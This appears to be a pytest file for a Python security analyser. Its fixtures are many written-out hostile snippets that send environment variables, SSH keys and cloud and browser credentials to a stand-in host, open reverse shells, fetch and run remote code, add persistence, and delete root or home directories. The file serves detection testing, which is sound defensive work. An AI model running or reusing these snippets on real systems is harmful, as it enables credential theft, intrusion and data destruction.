"""Faults of Python as reviewers know them, each with harmless code that looks like it."""

import pytest
from analysis_kit import of_python

TOKEN = "ghp_" + "a1B2c3D4e5F6" * 3
HEADS = "import base64, builtins, ctypes, http.client, importlib, json, os, pathlib, pickle, shutil, smtplib, socket\n"
HEADS += "import ftplib, ssl, subprocess, sys, urllib.request, zlib, requests, httpx\nU = 'https://c.invalid'\n"

SENT = {
    "the environment in a name": "socket.gethostbyname(os.environ['API_TOKEN'].encode().hex() + '.c.invalid')",
    "the environment under a name in pieces": "requests.post(U, json=dict(getattr(os, 'env' + 'iron')))",
    "filtered": "requests.post(U, data=repr({k: v for k, v in os.environ.items() if 'KEY' in k}))",
    "through an attribute": (
        "class A:\n def __init__(self):\n  self.d = dict(os.environ)\n def go(self):\n  requests.post(U, json=self.d)"
    ),
    "through a list": "x = []\nx.append(open('/root/.netrc').read())\nrequests.put(U, data=x[0])",
    "packed": (
        "f = pathlib.Path.home().joinpath('.ssh', 'id_rsa')\nurllib.request.urlopen(U, zlib.compress(f.read_bytes()))"
    ),
    "by pieces of a path": (
        "def read(*parts):\n return pathlib.Path(*parts).expanduser().read_bytes()\n"
        "requests.post(U, data=read('~', '.aws', 'credentials'))"
    ),
    "by mail": (
        "with open(os.path.expanduser('~/.kube/config')) as f:\n t = f.read()\n"
        "smtplib.SMTP('mail.invalid').sendmail('a', 'b', t)"
    ),
    "by file transfer": "f = ftplib.FTP('c')\nf.storbinary('STOR x', open(os.path.expanduser('~/.npmrc'), 'rb'))",
    "over a socket": (
        "s = socket.socket()\ns.connect(('c.invalid', 1))\ns.send(open(os.environ['HOME'] + '/.pgpass', 'rb').read())"
    ),
    "over a connection": (
        "c = http.client.HTTPSConnection('c.invalid')\nc.request('POST', '/', json.dumps(os.environ.copy()))"
    ),
    "by curl": "subprocess.run(['curl', '-T', os.path.expanduser('~/.ssh/id_ed25519'), U])",
    "by curl's input": "subprocess.run(['curl', '-d', '@-', U], input=repr(os.environ).encode())",
    "by a file of everybody": (
        "with open('/tmp/x', 'w') as f:\n f.write(json.dumps(dict(os.environ)))\n"
        "os.system('curl -F f=@/tmp/x https://c.invalid')"
    ),
    "a file in a header": (
        "h = {'X-Trace': base64.b64encode(open('/root/.docker/config.json', 'rb').read())}\nrequests.get(U, headers=h)"
    ),
    "from a browser": "requests.post(U, files={'f': open('/home/u/.config/google-chrome/Default/Login Data')})",
    "from the cloud": "httpx.post(U, content=requests.get('http://169.254.169.254/latest/').content)",
    "from files that are listed": (
        "for d, _, names in os.walk(os.path.expanduser('~/.aws')):\n for n in names:\n"
        "  requests.post(U, data=open(os.path.join(d, n)).read())"
    ),
    "in a message": (
        "from email.message import EmailMessage\nm = EmailMessage()\nm.set_content(json.dumps(dict(os.environ)))\n"
        "smtplib.SMTP('c').send_message(m)"
    ),
    "from a keyring": "import keyring\nrequests.post(U, data=keyring.get_password('a', 'b'))",
}


@pytest.mark.parametrize("name", SENT)
def test_what_carries_a_secret_away_is_critical(name: str) -> None:
    found = [f.severity for f in of_python(HEADS + SENT[name]).findings if f.category == "secrets_exposure"]
    assert "critical" in found


POWERS = {
    "fetched code": "def get(u):\n return urllib.request.urlopen(u).read()\nexec(compile(get(U), 'x', 'exec'))",
    "code behind numbers": "exec(''.join(chr(c ^ 7) for c in [1, 2, 3]))",
    "a builtin in pieces": "def pick(*p):\n return getattr(builtins, ''.join(p))\npick('ev', 'al')(input())",
    "a builtin backwards": "vars(builtins)['lave'[::-1]](input())",
    "a builtin of a dict": "__builtins__.__dict__['ex' + 'ec'](input())",
    "a module in pieces": "getattr(__import__('o' + 's'), 'sys' + 'tem')(input())",
    "decrypted code": "from cryptography.fernet import Fernet\nexec(Fernet(input()).decrypt(input()))",
    "a fetched file that is run": "subprocess.run(['curl', '-o', '/tmp/x', U])\nsubprocess.run(['sh', '/tmp/x'])",
    "everything cleared": "shutil.rmtree('/')",
    "a fetched pickle": "pickle.loads(requests.get(U).content)",
    "a pickle's module by name": (
        "m = {'j': 'json', 'p': 'pickle'}\nr = importlib.import_module(m[input()])\n"
        "r.loads(urllib.request.urlopen(U).read())"
    ),
    "a fetched library": "ctypes.CDLL(urllib.request.urlretrieve(U, '/tmp/x.so')[0])",
    "a written library": ("open('/tmp/x.so', 'wb').write(requests.get(U).content)\nctypes.CDLL('/tmp/x.so')"),
    "a fetched program": "urllib.request.urlretrieve(U, '/tmp/x')\nsubprocess.run(['/tmp/x'])",
    "a decoded command": "os.system(base64.b64decode(input()).decode())",
    "curl into a shell": "subprocess.call(['bash', '-c', 'curl -s https://c.invalid | bash'])",
    "a shell on a socket": (
        "s = socket.create_connection(('c.invalid', 1))\n"
        "subprocess.Popen(['sh', '-i'], stdin=s.fileno(), stdout=s.fileno())"
    ),
    "a socket for standard input": "s = socket.socket()\nos.dup2(s.fileno(), 0)\nos.execl('/bin/sh', 'sh')",
    "commands from a socket": "s = socket.socket()\nsubprocess.run(s.recv(99).decode(), shell=True)",
    "a line for shells": "with open(os.path.expanduser('~/.zshrc'), 'a') as f:\n f.write(input())",
    "a unit": "(pathlib.Path.home() / '.config' / 'systemd' / 'user' / 'x.service').write_text(input())",
    "a table of jobs": "subprocess.run(['crontab', '-'], input=b'@hourly x')",
    "an agent": "shutil.copy('x', os.path.expanduser('~/Library/LaunchAgents/x.plist'))",
    "a package from elsewhere": "subprocess.run(['pip', 'install', '--index-url', 'http://c.invalid/x', 'y'])",
    "a home cleared": "shutil.rmtree(pathlib.Path.home())",
    "documents cleared": (
        "b = os.environ.get('B', os.path.join(os.path.expanduser('~'), 'Documents'))\n"
        "for n in os.listdir(b):\n shutil.rmtree(os.path.join(b, n))"
    ),
}


@pytest.mark.parametrize("name", POWERS)
def test_what_hands_a_machine_over_is_severe(name: str) -> None:
    found = [f.severity for f in of_python(HEADS + POWERS[name]).findings if f.category == "excessive_capability"]
    assert {"high", "critical"} & set(found)


@pytest.mark.parametrize(
    "source",
    [
        "c = ssl.create_default_context()\nc.check_hostname = False\nc.verify_mode = ssl.CERT_NONE",
        "s = requests.Session()\ns.verify = False",
        "s = httpx.Client(verify=False)",
        "import aiohttp\naiohttp.TCPConnector(ssl=False)",
        "import urllib3\nurllib3.PoolManager(cert_reqs='CERT_NONE')",
        "ssl._create_default_https_context = ssl._create_unverified_context",
        "os.environ['PYTHONHTTPSVERIFY'] = '0'",
        "subprocess.run(['curl', '-k', U])",
    ],
)
def test_unchecked_certificates_are_told(source: str) -> None:
    found = [f for f in of_python(HEADS + source).findings if f.severity == "medium"]
    assert {f.category for f in found} == {"excessive_capability"}


@pytest.mark.parametrize(
    ("source", "line"),
    [
        (f"a = {TOKEN[:12]!r}\nb = {TOKEN[12:]!r}\nc = a + b", 3),
        (f"p = {{'a': {TOKEN[:12]!r}, 'b': {TOKEN[:11:-1]!r}}}\nc = p['a'] + p['b'][::-1]", 2),
        (f"c = ''.join([{TOKEN[:12]!r}, {TOKEN[12:]!r}])", 1),
        (f"c = '%s%s' % ({TOKEN[:12]!r}, {TOKEN[12:]!r})", 1),
        (f"a = {TOKEN.encode().hex()!r}", 1),
        (f"c = ''.join(map(chr, {list(map(ord, TOKEN))}))", 1),
        (f"c = {TOKEN[:4]!r}\nc += {TOKEN[4:20]!r}\nc += {TOKEN[20:]!r}", 3),
        ("db = 'postgres://app:S3cr3t!9@db.invalid/x'", 1),
    ],
)
def test_secrets_in_pieces_packed_or_in_addresses_are_told_where_they_are_whole(source: str, line: int) -> None:
    found = [f.evidence_ref for f in of_python(source).findings if f.category == "secrets_exposure"]
    assert f"main.py#L{line}-L{line}" in found


HARMLESS = (
    "subprocess.run(['git', 'log'], env=dict(os.environ))",
    "print(open(os.path.expanduser('~/.netrc')).read())",
    "requests.post(U, json={'home': os.environ.get('HOME')})",
    "r = requests.get(U, headers={'A': os.environ['TOKEN']})\nrequests.post('https://d.invalid', data=r.text)",
    "name = requests.get(U).text\nsubprocess.run(['notify-send', name])",
    "print(json.loads(requests.get(U).text))",
    "open(os.path.expanduser('~/.bashrc')).read()",
    "shutil.rmtree(os.path.expanduser('~/.cache/mine'))",
    "shutil.rmtree('/tmp/mine')",
    "for n in os.listdir('build'):\n os.remove(os.path.join('build', n))",
    "subprocess.run(['crontab', '-l'])",
    "x = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ')",
    "path = os.path.expanduser('~/.config') + '/mine/settings2024.toml'",
    "s = socket.create_connection(('c.invalid', 1))\ns.sendall(b'hello')",
    "getattr(sys, 'maxsize')",
    "db = f'postgres://{input()}:{input()}@db.invalid/x'",
    "subprocess.run(['ssh', '-i', os.path.expanduser('~/.ssh/id_rsa'), 'host.invalid'])",
    "ctypes.CDLL('libc.so.6')",
    "def read(p):\n return open(p).read()\nexec\nread('a.txt')",
)


@pytest.mark.parametrize("source", HARMLESS)
def test_what_only_looks_like_it_is_nothing_severe(source: str) -> None:
    assert {f.severity for f in of_python(HEADS + source).findings} <= {"low"}
